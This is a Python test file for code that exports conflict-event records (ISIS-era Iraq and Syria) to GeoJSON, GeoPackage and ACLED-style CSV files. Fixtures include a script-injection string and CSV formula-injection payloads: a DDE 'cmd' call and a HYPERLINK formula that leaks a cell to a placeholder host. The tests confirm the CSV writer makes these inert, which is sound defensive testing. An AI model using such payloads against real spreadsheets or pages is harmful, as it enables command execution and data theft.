"""GeoJSON (RFC 7946), GeoPackage and ACLED-style CSV exports, re-read as a GIS user would."""

from __future__ import annotations

import csv
import dataclasses
import json
import random
import re
from datetime import date

import geopandas as gpd
import numpy as np
import pandas as pd
import pyogrio
import pytest
import shapely
from _event_factory import make_event

from geo.control.estimate import control_areas
from geo.io.exports import EVENT_COLUMNS, events_frame, places_frame, write_outputs
from geo.records import Event, Toponym

MOSUL = ("Mosul", 36.335, 43.11889, 99072, "IQ")
SINJAR = ("Sinjar", 36.3209, 41.87656, 94298, "IQ")
RAQQA = ("Raqqa", 35.95283, 39.00788, 172955, "SY")
KOBANI = ("Kobani", 36.89095, 38.35347, 170063, "SY")
DAMASCUS = ("Damascus", 33.444, 36.341, 170654, "SY")
META = {"outlet": "Associated Press", "title": "ISIS showing signs of wear & tear"}
HOSTILE = 'He said <script>alert(1)</script> and <img src=x onerror="alert(2)">, then "left".'


def event(i, category, where, d0, d1=None, source="ap.txt", **kw):
    kw.setdefault("published", date(2016, 3, 20))
    kw.setdefault("published_estimated", False)
    kw.setdefault("meta", dict(META))
    return make_event(i, category, where, d0, d1, source, evidence_start=120, **kw)


def events() -> list[Event]:
    return [
        event(1, "control_change", MOSUL, date(2014, 6, 10), gained_by="ISIS",
              lost_by="Iraqi army", actor1="ISIS", actor2="Iraqi army", admin1="15"),
        event(2, "control_change", SINJAR, date(2014, 8, 3), gained_by="ISIS", lost_by="Peshmerga"),
        event(3, "control_state", RAQQA, date(2014, 1, 14), holder="ISIS"),
        event(4, "control_change", KOBANI, date(2015, 1, 1), date(2015, 1, 31), time_precision=3,
              gained_by="Kurdish forces", lost_by="ISIS"),
        event(5, "attack", DAMASCUS, date(2016, 2, 21), event_type="Explosions/Remote violence",
              sub_event_type="Suicide bomb", actor1="ISIS", killed=83, wounded=100,
              evidence=HOSTILE),
        event(6, "attack", ("south of Baghdad", 32.46367, 44.41963, None, "IQ"), date(2016, 3, 6),
              event_type="Explosions/Remote violence", sub_event_type="Suicide bomb",
              actor1="ISIS", killed=61, geo_precision=2),
        event(7, "claim", ("Iraq", 33.0, 44.0, 99237, "IQ"), date(2016, 1, 1), date(2016, 1, 31),
              event_type="Strategic developments", sub_event_type="Other", geo_precision=3,
              metric="territory_lost_pct", value=40.0, unit="%", actor1="ISIS"),
        event(8, "attack", ("Paris", None, None, None, None), date(2015, 11, 13),
              event_type="Violence against civilians", sub_event_type="Attack", killed=130),
    ]


def toponyms() -> list[Toponym]:
    out = []
    for source, start, (name, lat, lon, gid, cc), text in [
            ("ap.txt", 40, MOSUL, "Mosul"), ("ap.txt", 300, MOSUL, "MOSUL"),
            ("ibt.txt", 12, MOSUL, "Mosul"), ("ap.txt", 80, RAQQA, "Raqqa"),
            ("ap.txt", 90, ("Unresolved", None, None, None, None), "Ar-Rutbah")]:
        out.append(Toponym(source=source, start=start, end=start + len(text), text=text,
                           name=name, lat=lat, lon=lon, geonameid=gid, country_code=cc,
                           feature_code="PPLA" if gid else None))
    return out


@pytest.fixture
def outputs(tmp_path, monkeypatch):
    monkeypatch.setenv("TERRITORY_HOME", str(tmp_path / "home"))  # no admin polygons added
    evs = events()
    written = write_outputs(tmp_path / "out", events_frame(evs), places_frame(toponyms(), evs),
                            control_areas(evs))
    return tmp_path / "out", written


def test_events_frame_has_contract_columns_time_ms_and_meta():
    gdf = events_frame(events(), admin_polygons=False)
    assert list(gdf.columns[: len(EVENT_COLUMNS)]) == EVENT_COLUMNS
    assert {"outlet", "title", "geometry"} <= set(gdf.columns)
    assert list(gdf["date_start"]) == sorted(gdf["date_start"])
    mosul = gdf.set_index("event_id").loc["ev001"]
    assert mosul["date_start"] == "2014-06-10" and mosul["time_ms"] == 1402358400000
    assert (mosul.geometry.x, mosul.geometry.y) == (MOSUL[2], MOSUL[1])
    # no polygons used: the gazetteer's admin-1 code "15" becomes the governorate's name
    assert mosul["admin1"].startswith("Nineveh")
    paris = gdf.set_index("event_id").loc["ev008"]
    assert paris.geometry is None and pd.isna(paris["lat"])


def test_meta_never_overwrites_a_contract_column():
    e = event(1, "attack", DAMASCUS, date(2016, 2, 21), killed=83)
    clash = dataclasses.replace(e, meta={"source": "AP wire", "outlet": "AP"})
    gdf = events_frame([clash], admin_polygons=False)
    assert gdf.loc[0, "source"] == "ap.txt" and gdf.loc[0, "meta_source"] == "AP wire"


def test_admin1_comes_from_added_polygons(tmp_path, monkeypatch, shared_data_dir):
    from geo.gazetteer.boundaries import add_boundaries

    monkeypatch.setenv("TERRITORY_HOME", str(tmp_path / "home"))
    add_boundaries(shared_data_dir / "boundaries/wof_admin1_regions_iq_sy_jo_lb_tr.geojson.gz", 1)
    gdf = events_frame(events()).set_index("event_id")
    assert gdf.loc["ev001", "admin1"] == "Ninawa"  # the polygon's name beats the gazetteer's
    places = places_frame(toponyms(), events()).set_index("name")
    assert places.loc["Mosul", "admin1"] == "Ninawa"
    assert places.loc["Raqqa", "admin1"] == "Ar Raqqah"
    assert gdf.loc["ev003", "admin1"] == "Ar Raqqah"
    assert pd.isna(gdf.loc["ev008", "admin1"])  # no coordinates


def test_places_frame_one_row_per_place_with_mentions_and_control():
    places = places_frame(toponyms(), events()).set_index("name")
    assert "Unresolved" not in places.index
    mosul = places.loc["Mosul"]
    assert mosul["geonameid"] == MOSUL[3] and mosul["n_mentions"] == 3
    assert mosul["mentions"][0] == {"source": "ap.txt", "start": 40, "end": 45, "text": "Mosul"}
    assert [c["holder"] for c in mosul["control"]] == ["ISIS"]
    assert mosul["holder"] == "ISIS" and mosul["holder_date"] == "2014-06-10"
    # places that only events name are there too; regions (geo_precision 3) are not
    assert {"Kobani", "Sinjar", "Damascus", "south of Baghdad"} <= set(places.index)
    assert "Iraq" not in places.index


def _decimals(text: str) -> int:
    return max((len(m) for m in re.findall(r"\d+\.(\d+)", text)), default=0)


def _coords(geom: dict) -> np.ndarray:
    return np.array(shapely.get_coordinates(shapely.geometry.shape(geom)))


@pytest.mark.parametrize("layer", ["events", "places", "control"])
def test_geojson_is_rfc7946(outputs, layer):
    out, _written = outputs
    raw = (out / f"{layer}.geojson").read_text(encoding="utf-8")
    doc = json.loads(raw)
    assert doc["type"] == "FeatureCollection" and "crs" not in doc and doc["features"]
    for feature in doc["features"]:
        if feature["geometry"] is None:
            continue
        assert _decimals(json.dumps(feature["geometry"])) <= 6
        xy = _coords(feature["geometry"])
        # longitude first: every fixture place lies at 35-45 E, 32-37.5 N
        assert ((xy[:, 0] > 35) & (xy[:, 0] < 45.5)).all(), xy[:3]
        assert ((xy[:, 1] > 32) & (xy[:, 1] < 37.5)).all(), xy[:3]
        geom = shapely.geometry.shape(feature["geometry"])
        for poly in shapely.get_parts(geom) if layer == "control" else []:
            assert poly.exterior.is_ccw  # right-hand rule: exterior counter-clockwise
            assert all(not ring.is_ccw for ring in poly.interiors)
    # GDAL reads it back with the right types
    gdf = pyogrio.read_dataframe(out / f"{layer}.geojson")
    assert gdf.crs.equals("EPSG:4326")
    date_col = {"events": "date_start", "places": "holder_date", "control": "date"}[layer]
    assert pd.api.types.is_datetime64_any_dtype(gdf[date_col])
    if layer != "places":
        assert pd.api.types.is_integer_dtype(gdf["time_ms"])


def test_geojson_keeps_text_and_lists_as_is(outputs):
    out, _ = outputs
    events = {f["properties"]["event_id"]: f for f in
              json.loads((out / "events.geojson").read_text(encoding="utf-8"))["features"]}
    assert events["ev005"]["properties"]["evidence"] == HOSTILE
    assert events["ev005"]["properties"]["killed"] == 83
    assert events["ev008"]["geometry"] is None
    assert events["ev001"]["properties"]["outlet"] == "Associated Press"
    places = json.loads((out / "places.geojson").read_text(encoding="utf-8"))["features"]
    mosul = next(p["properties"] for p in places if p["properties"]["name"] == "Mosul")
    assert isinstance(mosul["mentions"], list) and len(mosul["mentions"]) == 3
    assert mosul["control"][0]["event_id"] == "ev001"
    control = json.loads((out / "control.geojson").read_text(encoding="utf-8"))["features"]
    assert all(c["properties"]["estimate"] is True for c in control)
    assert isinstance(control[0]["properties"]["places"], list)


def test_geopackage_layers_have_date_fields(outputs):
    _out, written = outputs
    path = written["territory.gpkg"]
    assert sorted(name for name, _ in pyogrio.list_layers(path)) == ["control", "events", "places"]
    for layer, date_col in [("events", "date_start"), ("control", "date"),
                            ("places", "holder_date")]:
        info = pyogrio.read_info(path, layer=layer)
        assert info["crs"] == "EPSG:4326"
        types = dict(zip(info["fields"], info["ogr_types"]))
        assert types[date_col] == "OFTDate"
    events = pyogrio.read_dataframe(path, layer="events").set_index("event_id")
    assert events.loc["ev001", "date_start"] == pd.Timestamp("2014-06-10")
    assert events.loc["ev001", "time_ms"] == 1402358400000
    assert events.loc["ev005", "killed"] == 83 and pd.isna(events.loc["ev002", "killed"])
    assert events.loc["ev001"].geometry.x == pytest.approx(MOSUL[2])
    assert events.loc["ev008"].geometry is None
    places = pyogrio.read_dataframe(path, layer="places").set_index("name")
    assert json.loads(places.loc["Mosul", "mentions"])[1]["text"] == "MOSUL"
    control = pyogrio.read_dataframe(path, layer="control")
    assert set(control.geometry.geom_type) == {"MultiPolygon"}
    assert "ESTIMATED" in pyogrio.read_info(path, layer="control")["layer_metadata"]["DESCRIPTION"]
    assert all(p.exterior.is_ccw for g in control.geometry for p in shapely.get_parts(g))


def test_events_csv_has_acled_columns(outputs):
    out, _ = outputs
    with open(out / "events.csv", encoding="utf-8", newline="") as fh:
        rows = {r["event_id_cnty"]: r for r in csv.DictReader(fh)}
        fh.seek(0)
        header = next(csv.reader(fh))
    assert header[:8] == ["event_id_cnty", "event_date", "year", "time_precision",
                          "disorder_type", "event_type", "sub_event_type", "actor1"]
    assert {"latitude", "longitude", "notes", "fatalities", "admin1", "location", "iso",
            "country", "time_ms", "wounded", "gained_by"} <= set(header)
    damascus = rows["ev005"]
    assert damascus["event_date"] == "2016-02-21" and damascus["year"] == "2016"
    assert damascus["fatalities"] == "83" and damascus["notes"] == HOSTILE
    assert (damascus["latitude"], damascus["longitude"]) == ("33.444", "36.341")
    assert (damascus["iso"], damascus["country"]) == ("760", "Syria")
    assert damascus["disorder_type"] == "Political violence"
    assert rows["ev002"]["fatalities"] == ""  # not stated is not zero
    assert rows["ev007"]["metric"] == "territory_lost_pct" and rows["ev007"]["value"] == "40.0"


def test_outputs_are_byte_identical_whatever_the_input_order(tmp_path, monkeypatch):
    monkeypatch.setenv("TERRITORY_HOME", str(tmp_path / "home"))
    digests = []
    for seed in (1, 2):
        evs, tops = events(), toponyms()
        random.Random(seed).shuffle(evs)
        random.Random(seed).shuffle(tops)
        out = tmp_path / f"out{seed}"
        write_outputs(out, events_frame(evs), places_frame(tops, evs), control_areas(evs))
        digests.append({p.name: p.read_bytes() for p in sorted(out.iterdir())})
    assert digests[0].keys() == {"events.geojson", "places.geojson", "control.geojson",
                                 "events.csv", "territory.gpkg"}
    for name in digests[0]:
        assert digests[0][name] == digests[1][name], name


def test_empty_corpus_writes_valid_empty_files(tmp_path, monkeypatch):
    monkeypatch.setenv("TERRITORY_HOME", str(tmp_path / "home"))
    written = write_outputs(tmp_path, events_frame([]), places_frame([], []), control_areas([]))
    assert json.loads(written["events.geojson"].read_text())["features"] == []
    assert pyogrio.read_info(written["territory.gpkg"], layer="control")["features"] == 0
    assert written["events.csv"].read_text().startswith("event_id_cnty,event_date")


def test_seed_run_writes_every_export_readable_and_reproducible(seeds_dir, tmp_path):
    """The real pipeline on the five seed articles: every export re-read as a GIS user would."""
    from geo.runner.pipeline import run

    outs = []
    for name in ("a", "b"):
        run([seeds_dir], tmp_path / name, seeds_dir / "manifest.csv", progress=False)
        outs.append(tmp_path / name)
    for file in ("events.geojson", "places.geojson", "control.geojson", "events.csv",
                 "territory.gpkg"):
        assert (outs[0] / file).read_bytes() == (outs[1] / file).read_bytes(), file

    events = pyogrio.read_dataframe(outs[0] / "events.geojson")
    assert len(events) and pd.api.types.is_datetime64_any_dtype(events["date_start"])
    xy = shapely.get_coordinates(events.geometry.dropna().values)
    assert (np.abs(xy[:, 0]) <= 180).all() and (np.abs(xy[:, 1]) <= 90).all()
    # Mosul, held by ISIS in the last seed article, at its real position (lon first)
    mosul = events[(events["place"] == "Mosul") & (events["category"] == "control_state")]
    assert len(mosul) and mosul.geometry.iloc[0].x == pytest.approx(43.12, abs=0.1)
    assert mosul.geometry.iloc[0].y == pytest.approx(36.34, abs=0.1)

    control = pyogrio.read_dataframe(outs[0] / "territory.gpkg", layer="control")
    assert len(control) and (control["area_km2"] > 0).all() and control["estimate"].all()
    assert pd.api.types.is_datetime64_any_dtype(control["date"])
    assert set(control["side"]) >= {"isis", "kurdish"}
    places = json.loads((outs[0] / "places.geojson").read_text(encoding="utf-8"))
    assert "crs" not in places
    held = [f["properties"] for f in places["features"] if f["properties"]["control"]]
    assert any(p["holder"] == "ISIS" for p in held)
    with open(outs[0] / "events.csv", encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == len(events) and all(r["event_date"] for r in rows)


def test_places_named_only_inside_an_institution_are_not_on_the_places_layer():
    embedded = Toponym(source="ap.txt", start=500, end=506, text="Kirkuk", name="Kirkuk", lat=35.47,
                       lon=44.39, geonameid=94787, country_code="IQ", feature_code="PPLA",
                       embedded_in="Kirkuk Provincial Council")
    places = places_frame([*toponyms(), embedded], events()).set_index("name")
    assert "Kirkuk" not in places.index and "Mosul" in places.index


def test_properties_converted_a_column_at_a_time_are_those_of_the_row_by_row_conversion():
    from geo.io.exports import _json_column, _json_value

    frame = pd.DataFrame({
        "n": np.array([3, -1, 0], dtype="int64"),
        "killed": pd.array([12, None, 0], dtype="Int64"),
        "lat": [36.3, float("nan"), 0.0],
        "merged": [True, False, True],
        "actors": [["ISIS", "SDF"], [], None],
        "extras": [{"background": True}, None, {}],
        "mixed": [np.int64(4), np.float64("nan"), "Tal Abyad"],
        "day": pd.to_datetime(["2016-03-06", None, "2015-11-13"]),
        "note": pd.array(["a", None, "ç"], dtype="string"),
    })
    by_rows = [{k: _json_value(v) for k, v in record.items()} for record in frame.to_dict("records")]
    by_columns = [dict(zip(frame.columns, values)) for values in zip(*(_json_column(frame[c]) for c in frame.columns))]
    assert json.dumps(by_columns) == json.dumps(by_rows)


def test_features_put_together_a_column_at_a_time_are_those_of_one_dictionary_per_row():
    from geo.io.exports import _json_column, feature_lines

    frame = gpd.GeoDataFrame({
        "event_id": ["e1", "e2", "e3"],
        "place": ['Tal "White" Abyad', None, "Ḑayr az Zawr\nline"],
        "killed": pd.array([12, None, 0], dtype="Int64"),
        "lat": [36.3, float("nan"), -0.000001],
        "value": [1e21, 2.5, 1e-7],
        "merged": [True, False, True],
        "flag": pd.array([True, None, False], dtype="boolean"),
        "sources": [["a.txt", "b.txt"], [], None],
        "extras": [{"outlet": "AFP", "n": 3}, None, {}],
        "odd {name}": ["x", "y", "z"],
        "note": pd.array(["a", None, "ç\\"], dtype="str"),
    }, geometry=gpd.points_from_xy([39.2, 40.0, 0.0], [36.7, 35.3, 0.0]), crs=4326)
    frame.loc[2, "geometry"] = None
    props = [c for c in frame.columns if c != "geometry"]
    lines = feature_lines(frame)
    for line, values in zip(lines, zip(*(_json_column(frame[c]) for c in props))):
        expected = json.dumps(dict(zip(props, values)), ensure_ascii=False, separators=(",", ":"), allow_nan=False)
        assert line.startswith('{"type":"Feature","properties":' + expected + ',"geometry":')
    assert lines[2].endswith('"geometry":null}')
    assert json.loads(lines[0])["geometry"] == {"type": "Point", "coordinates": [39.2, 36.7]}
    assert feature_lines(frame[["geometry"]]) == [
        '{"type":"Feature","properties":{},"geometry":{"type":"Point","coordinates":[39.2,36.7]}}',
        '{"type":"Feature","properties":{},"geometry":{"type":"Point","coordinates":[40.0,35.3]}}',
        '{"type":"Feature","properties":{},"geometry":null}']


def test_a_value_json_refuses_is_refused_column_by_column_too():
    from geo.io.exports import feature_lines

    frame = gpd.GeoDataFrame({"breakdown": [[float("nan")]]}, geometry=gpd.points_from_xy([1.0], [2.0]), crs=4326)
    with pytest.raises(ValueError):
        feature_lines(frame)


def test_geopackage_through_arrow_is_the_file_written_field_by_field(tmp_path, monkeypatch):
    import geo.io.exports as exports

    if not exports._arrow_writes():
        pytest.skip("pyarrow or GDAL 3.8 missing: layers are written field by field anyway")
    frame = gpd.GeoDataFrame({
        "event_id": ["e1", "e2", "e3", "e4"],
        "place": ["Tall Abyaḑ", None, "Ar Ramādī", ""],
        "date_start": ["2015-06-15", "2015-05-14", None, "2016-02-20"],
        # dates Arrow does not read as ISO days: pandas' parser, as field by field
        "valid_from": ["2015/06/15", None, "2015/05/14", "2016/02/20"],
        "killed": pd.array([12, None, 0, 3], dtype="Int64"),
        "lat": [36.696151, float("nan"), 33.42056, 0.0],
        "published_estimated": pd.array([True, None, False, True], dtype="boolean"),
        "sources": [["a.txt", "b.txt"], [], None, ["c.txt"]],
        "nothing": [None, None, None, None],
    }, geometry=gpd.points_from_xy([39.23, 43.3, 43.31, 0.0], [36.7, 33.4, 33.42, 0.0]), crs=4326)
    frame.loc[1, "geometry"] = None

    def write(folder):
        folder.mkdir()
        exports.write_gpkg(folder / "t.gpkg", {"events": frame.iloc[:2]})
        exports.write_gpkg(folder / "t.gpkg", {"events": frame.iloc[2:], "incidents": frame}, replace=False)
        return (folder / "t.gpkg").read_bytes()

    through_arrow = write(tmp_path / "arrow")
    monkeypatch.setattr(exports, "_arrow_writes", lambda: False)
    assert write(tmp_path / "fields") == through_arrow
    back = gpd.read_file(tmp_path / "arrow" / "t.gpkg", layer="events", engine="pyogrio")
    assert back["place"].isna().tolist() == [False, True, False, False] and back["place"][2] == "Ar Ramādī"
    assert back.geometry.isna().tolist() == [False, True, False, False]
    assert back["date_start"].astype(str).tolist()[:2] == ["2015-06-15", "2015-05-14"]
    assert back["valid_from"].isna().tolist() == [False, True, False, False]


def test_short_cuts_for_common_lists_write_what_the_encoder_writes():
    from geo.io.exports import _JSON_ENCODE, _TEXT_ENCODE, _json_of

    values = [[], {}, ["long.txt"], ['a "quoted" name', "Ḑayr az Zawr", "line\nbreak"], ["a", None], [1, "b"],
              {"killed": 3}, [{"source": "a.txt", "evidence": "x"}], [[]], True, {"share": 0.25, "n": None},
              {"who": {"killed": 4, "wounded": [1, 2.5]}}]
    for value in values:
        assert _json_of(value, _JSON_ENCODE, ",") == json.dumps(value, ensure_ascii=False, separators=(",", ":"))
        assert _json_of(value, _TEXT_ENCODE, ", ") == json.dumps(value, ensure_ascii=False)


def test_the_reused_encoder_refuses_what_the_encoder_refuses_and_then_goes_on():
    from geo.io.exports import _JSON_ENCODE, _json_of

    for bad, error in (([1.0, float("nan")], ValueError), ({"killed": float("inf")}, ValueError),
                       ([object()], TypeError)):
        with pytest.raises(error):
            _json_of(bad, _JSON_ENCODE, ",")
    # a value that failed half-way leaves nothing behind: the next one is written as usual
    assert _json_of([{"killed": 2}], _JSON_ENCODE, ",") == '[{"killed":2}]'


def test_events_csv_writer_gives_the_bytes_pandas_writes(tmp_path, monkeypatch):
    """The run writes events.csv without pandas' to_csv: the same bytes, awkward cells included."""
    import io

    from geo.io.exports import events_csv, write_events_csv

    monkeypatch.setenv("TERRITORY_HOME", str(tmp_path / "home"))
    gdf = events_frame(_awkward_events())
    gdf["extra"] = pd.Series([["a, b", 'say "x"'], {"n": 1.5, "ok": True}, np.nan], dtype=object)
    gdf["share"] = [0.25, np.nan, -0.0]
    gdf["flag"] = pd.array([True, None, False], dtype="boolean")
    for header in (True, False):
        expected, written = io.StringIO(), io.StringIO()
        events_csv(gdf).to_csv(expected, index=False, header=header, lineterminator="\n")
        write_events_csv(gdf, written, header=header)
        assert written.getvalue() == expected.getvalue()
    expected, written = io.StringIO(), io.StringIO()
    events_csv(gdf.iloc[:0]).to_csv(expected, index=False, lineterminator="\n")
    write_events_csv(gdf.iloc[:0], written)
    assert written.getvalue() == expected.getvalue()


def test_events_csv_makes_text_a_spreadsheet_would_run_inert(tmp_path, monkeypatch):
    """Article text and file names are untrusted: a cell that opens as a formula ("=HYPERLINK(",
    "@SUM(", "+", "-", a tab) gets a leading apostrophe, so Excel or Sheets shows it as text;
    numbers, negative ones included, and every other cell are written as they are."""
    import io

    from geo.io.exports import write_events_csv

    monkeypatch.setenv("TERRITORY_HOME", str(tmp_path / "home"))
    qasra = ("Tell Qasra", 35.1204, -40.45021, 9100001, "SY")
    hostile = event(1, "attack", qasra, date(2016, 2, 3), source="=cmd|' /C calc'!A0.txt", killed=3,
                    evidence='=HYPERLINK("http://example.invalid/?leak="&A1,"Shelling hit the market")',
                    actor1="@SUM(1+1)", actor2="-2+3", casualty_breakdown="\tcivilians: 3")
    plain = event(2, "claim", qasra, date(2016, 2, 4), metric="territory_lost_pct", value=-4.5,
                  evidence="Militants lost ground = a fifth of the province, officials said.")
    written = io.StringIO()
    write_events_csv(events_frame([hostile, plain]), written)
    rows = list(csv.DictReader(io.StringIO(written.getvalue())))
    assert rows[0]["notes"] == "'" + hostile.evidence
    assert rows[0]["source"] == "'" + hostile.source
    assert (rows[0]["actor1"], rows[0]["actor2"]) == ("'@SUM(1+1)", "'-2+3")
    assert rows[0]["casualty_breakdown"] == "'\tcivilians: 3"
    assert rows[0]["longitude"] == "-40.45021"  # a number, not text: left as it is
    assert rows[1]["notes"] == plain.evidence and rows[1]["value"] == "-4.5"
    assert rows[1]["source"] == "ap.txt"


def test_events_csv_leaves_numbers_written_as_text_and_a_lone_dash_as_they_are(tmp_path, monkeypatch):
    """A manifest's columns are text: its "-1" rank or "-" placeholder stays what pandas or R reads
    as a number or a dash, while "-1+cmd|..." (no number) and a header from a hostile column name
    are made inert."""
    import io

    from geo.io.exports import write_events_csv

    monkeypatch.setenv("TERRITORY_HOME", str(tmp_path / "home"))
    qasra = ("Tell Qasra", 35.1204, 40.45021, 9100001, "SY")
    evs = [event(k, "attack", qasra, date(2016, 2, 3), killed=1, meta={"rank": rank, "=HYPERLINK(1)": "x"})
           for k, rank in enumerate(["-1", "+2.5", "-", "-1+cmd|' /C calc'!A0", "-3e2"], start=1)]
    written = io.StringIO()
    write_events_csv(events_frame(evs, meta_keys=["rank", "=HYPERLINK(1)"]), written)
    table = list(csv.reader(io.StringIO(written.getvalue())))
    assert "'=HYPERLINK(1)" in table[0] and "=HYPERLINK(1)" not in table[0]
    ranks = [row[table[0].index("rank")] for row in table[1:]]
    assert ranks == ["-1", "+2.5", "-", "'-1+cmd|' /C calc'!A0", "-3e2"]


def test_events_frame_of_field_lists_is_the_events_frame(tmp_path, monkeypatch):
    """The run frames its events from their wire field lists, never made into records: the same table."""
    from geo.io.exports import events_frame_of_rows
    from geo.runner.codec import event_row

    monkeypatch.setenv("TERRITORY_HOME", str(tmp_path / "home"))
    evs = _awkward_events()
    keys = ["outlet", "url"]
    expected = events_frame(evs, meta_keys=keys)
    pd.testing.assert_frame_equal(events_frame_of_rows([event_row(e) for e in evs], meta_keys=keys), expected)
    assert list(expected.columns[-3:-1]) == ["outlet", "url"]


def _awkward_events() -> list[Event]:
    qasra = ("Tell Qasra", 35.1204, 40.45021, 9100001, "SY")
    harun = ("Wadi Harun", 33.5, 43.25, None, "IQ")
    return [
        event(1, "attack", qasra, date(2016, 2, 3), killed=12, wounded=None,
              evidence='Shelling hit "the market", killing 12;\nmedics said more died.',
              casualty_breakdown="civilians: 7, fighters: 5"),
        event(2, "claim", harun, date(2016, 2, 4), metric="territory_lost_pct", value=1e-05,
              value_low=0.1, value_high=1e16, meta={"outlet": "Qasra Courier, Evening", "url": ""}),
        event(3, "control_change", ("Khirbet Sur", None, None, None, None), date(2015, 12, 30),
              published=None, published_estimated=True, meta={}),
    ]
